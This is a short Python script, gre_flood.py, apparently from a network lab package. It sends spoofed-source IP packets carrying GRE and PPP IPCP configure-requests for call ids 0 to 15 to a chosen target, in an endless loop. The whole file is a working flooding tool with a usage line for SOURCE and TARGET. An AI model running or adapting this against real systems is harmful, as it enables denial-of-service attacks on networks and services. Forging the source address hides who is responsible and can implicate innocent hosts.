# SPDX-License-Identifier: GPL-2.0-only
"""A program: GRE packets for call ids 0 to 15, as long as there is a way.

usage: gre_flood.py SOURCE TARGET
"""

import socket
import sys

from lab.rawclient import cp, gre, ppp
from lab.spoof import ip_packet


def main(source, target):
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = [ip_packet(source, target, gre(call, ppp(0x8021, cp(1, 1)), seq))
               for call in range(16) for seq in range(4)]
    while True:
        for packet in packets:
            try:
                sock.sendto(packet, (target, 0))
            except OSError:
                return


if __name__ == "__main__":
    main(*sys.argv[1:])
